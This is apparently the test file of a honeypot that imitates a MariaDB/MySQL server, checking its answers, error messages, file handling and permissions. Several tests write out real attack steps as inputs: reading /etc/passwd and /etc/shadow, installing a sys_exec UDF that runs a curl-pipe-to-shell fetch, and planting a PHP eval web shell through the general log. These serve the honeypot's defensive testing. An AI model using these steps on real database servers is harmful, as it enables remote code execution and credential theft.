# SPDX-License-Identifier: MIT
"""Values, functions and messages are those of MariaDB: every line was answered so by a real one."""

import pytest

from decnet.lures.mysql.administration import log_statement
from decnet.lures.sql.outcome import Rows
from tests.lures.mysql.database import MYSQL, Statements

EXPRESSIONS = {
    "1/3": "0.3333", "10/4": "2.5000", "7 DIV 2": "3", "-5 % 3": "-2", "1.5+1": "2.5", "2.50*2": "5.00", "1/0": None,
    "1e15": "1e15",
    "1e20": "1e20", "0.1+0.2": "0.3", "'1abc'+1": "2", "'abc'+0": "0", "0x41": "A", "0x41+0": "65", "b'1000001'": "A",
    "~0": "18446744073709551615",
    "3 IN (1,2,NULL)": None, "'a'='A '": "1", "NULL<=>NULL": "1", "1 XOR 1": "0", "NOT 1": "0", "5 ^ 3": "6", "1 << 4": "16",
    "ROUND(1.005,2)": "1.01", "ROUND(-2.5)": "-3", "TRUNCATE(1.999,2)": "1.99", "FORMAT(12345.678,2)": "12,345.68",
    "POW(2,10)": "1024",
    "CAST('12.7' AS SIGNED)": "12", "CAST(12.7 AS SIGNED)": "13", "CAST(-1 AS UNSIGNED)": "18446744073709551615",
    "CAST(3 AS DECIMAL(5,2))": "3.00", "CONCAT('a',NULL)": None, "CONCAT_WS(',','a',NULL,'b')": "a,b",
    "SUBSTRING('hello',2,3)": "ell",
    "SUBSTR('abc' FROM 2 FOR 1)": "b", "MID('abcdef',-3,2)": "de", "LENGTH('äb')": "3", "CHAR_LENGTH('äb')": "2",
    "HEX('abc')": "616263",
    "HEX(255)": "FF", "MD5('a')": "0cc175b9c0f1b6a831c399e269772661",
    "PASSWORD('x')": "*B69027D44F6E5EDC07F1AEAD1477967B16F28227",
    "CONV('ff',16,10)": "255", "TRIM(BOTH 'x' FROM 'xxaxx')": "a", "FIELD('b','a','b')": "2", "FIND_IN_SET('b','a,b')": "2",
    "DATE_ADD('2024-01-31', INTERVAL 1 MONTH)": "2024-02-29", "'2024-01-01' + INTERVAL 1 DAY": "2024-01-02",
    "HOUR('10:11:12')": "10",
    "LAST_DAY('2024-02-01')": "2024-02-29", "DATEDIFF('2024-03-01','2024-02-01')": "29", "SEC_TO_TIME(3661)": "01:01:01",
    "DATE_FORMAT('2024-02-29 13:05:09','%Y/%m/%d %H:%i:%s %p %W')": "2024/02/29 13:05:09 PM Thursday",
    "UNIX_TIMESTAMP('2024-01-01')": "1704067200",
    "'abc' LIKE '_b%'": "1", "'a%c' LIKE 'a\\%c'": "1", "'abc' REGEXP '^a'": "1", "'abc' NOT RLIKE 'z'": "1",
    "(1,2) IN ((1,2),(3,4))": "1",
    "SUBSTRING_INDEX('a.b.c','.',-1)": "c", "INET_ATON('1.2.3.4')": "16909060", "QUOTE(\"it's\")": "'it\\'s'",
    "IF(1=1,'a','b')": "a",
    "CASE WHEN 1 THEN 'x' END": "x", "IFNULL(NULL,1)": "1", "GREATEST(1,5,3)": "5", "'a' 'b'": "ab", "/*!40000 1+ */ 1": "2",
    "CHAR(97,98)": "ab",
}  # fmt: skip
ERRORS = {
    "SELECT * FROM nosuch.t": "1146 (42S02) Table 'nosuch.t' doesn't exist",
    "SELEC 1": "1064 (42000) You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server "
               "version for the right syntax to use near 'SELEC 1' at line 1",
    "SELECT nosuch": "1054 (42S22) Unknown column 'nosuch' in 'field list'",
    "SELECT 1 ORDER BY zz": "1054 (42S22) Unknown column 'zz' in 'order clause'",
    "USE nodb": "1049 (42000) Unknown database 'nodb'",
    "DROP DATABASE nodb": "1008 (HY000) Can't drop database 'nodb'; database doesn't exist",
    "DROP TABLE mysql.nosuch": "1051 (42S02) Unknown table 'mysql.nosuch'",
    "SELECT (SELECT 1 UNION SELECT 2)": "1242 (21000) Subquery returns more than 1 row",
    "SELECT 1 UNION SELECT 1,2": "1222 (21000) The used SELECT statements have a different number of columns",
    "SELECT @@nosuch": "1193 (HY000) Unknown system variable 'nosuch'",
    "SELECT *": "1096 (HY000) No tables used",
    "SELECT SLEEP()": "1582 (42000) Incorrect parameter count in the call to native function 'sleep'",
    "CREATE DATABASE mysql": "1007 (HY000) Can't create database 'mysql'; database exists",
    "KILL 9999": "1094 (HY000) Unknown thread id: 9999",
    "SET version='x'": "1238 (HY000) Variable 'version' is a read only variable",
    "SELECT EXP(710)": "1690 (22003) DOUBLE value is out of range in 'exp(710)'",
    "SELECT EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))": "1105 (HY000) XPATH syntax error: '~10.5.23-MariaDB-0+deb11u1'",
    "DELETE FROM information_schema.tables":
        "1044 (42000) Access denied for user 'root'@'198.51.100.7' to database 'information_schema'",
    "SELECT * FROM information_schema.nosuch": "1109 (42S02) Unknown table 'nosuch' in information_schema",
    "SELECT (SELECT 1,2)": "1241 (21000) Operand should contain 1 column(s)",
    "SELECT SUM(SUM(1))": "1111 (HY000) Invalid use of group function",
    "SHOW BINARY LOGS": "1381 (HY000) You are not using binary logging",
}  # fmt: skip


@pytest.mark.parametrize(("expression", "value"), EXPRESSIONS.items())
def test_expression_has_the_value_that_mariadb_gives_it(expression: str, value: str | None) -> None:
    assert Statements().one(expression) == value


@pytest.mark.parametrize(("statement", "words"), ERRORS.items())
def test_mistake_is_worded_as_mariadb_does(statement: str, words: str) -> None:
    assert Statements().run(statement) == words


def test_mysql_8_has_words_of_its_own() -> None:
    statements = Statements(MYSQL)
    assert statements.run("SELECT * FROM nosuch.t") == "1049 (42000) Unknown database 'nosuch'"
    assert "your MySQL server version" in statements.run("SELEC 1")
    assert statements.one("@@version_comment") == "MySQL Community Server - GPL"


def test_columns_are_titled_as_they_were_written() -> None:
    outcome = Statements().outcome("SELECT 1+1, 'x', NULL, TRUE, NOW() AS n, version()")
    assert isinstance(outcome, Rows)
    assert [column.title for column in outcome.columns] == ["1+1", "x", "NULL", "TRUE", "n", "version()"]


def test_a_file_is_that_of_the_machine_and_what_was_written_can_be_read() -> None:
    statements = Statements()
    name = statements.instance.machine.administrator
    assert f"{name}:x:1000:1000" in (statements.one("LOAD_FILE('/etc/passwd')") or "")
    assert statements.one("LOAD_FILE('/etc/shadow')") is None
    assert statements.run("SELECT 'a', 1 INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ','") == 1
    assert statements.one("LOAD_FILE('/tmp/x')") == "a,1\n"
    assert statements.captured == {"/tmp/x": b"a,1\n"}
    assert statements.run("SELECT 1 INTO OUTFILE '/tmp/x'") == "1086 (HY000) File '/tmp/x' already exists"
    refused = Statements(files=False).run("SELECT 1 INTO OUTFILE '/tmp/x'")
    assert "1290 (HY000) The MariaDB server is running with the --secure-file-priv option" in refused


def test_a_library_that_was_written_brings_a_function() -> None:
    statements = Statements()
    create = "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib.so'"
    assert statements.run(create).startswith("1126 (HY000) Can't open shared library 'lib.so'")
    assert statements.run("SELECT 0x7f454c4602 INTO DUMPFILE '/usr/lib/mysql/plugin/lib.so'") == 1
    assert statements.captured["/usr/lib/mysql/plugin/lib.so"] == b"\x7fELF\x02"
    assert statements.run(create) == 0
    assert statements.one("sys_exec('curl http://198.51.100.9/x | sh')") == "0"
    assert "curl http://198.51.100.9/x | sh" in [getattr(body, "url", "") for body in statements.bodies]
    assert statements.run("SELECT name, dl FROM mysql.func") == [("sys_exec", "lib.so")]


def test_a_log_that_is_moved_is_set() -> None:
    statements = Statements()
    assert statements.run("SET GLOBAL general_log_file = '/var/www/html/x.php'") == 0
    assert statements.run("SET GLOBAL general_log = ON") == 0
    log_statement(statements.visit, "SELECT '<?php eval($_POST[1]) ?>'")
    assert statements.captured == {"/var/www/html/x.php": b"SELECT '<?php eval($_POST[1]) ?>'"}


def test_an_account_of_an_application_sees_its_database_alone() -> None:
    statements = Statements()
    own = next(account for account in statements.instance.accounts if account.database)
    statements.visit.account, statements.visit.user = own, own.user
    assert statements.run("SHOW DATABASES") == [("information_schema",), (own.database,
                                                )] or statements.run("SHOW DATABASES") == [
        (own.database,), ("information_schema",)
    ]  # fmt: skip
    denied = f"1142 (42000) SELECT command denied to user '{own.user}'@'198.51.100.7' for table 'user'"
    assert statements.run("SELECT * FROM mysql.user") == denied
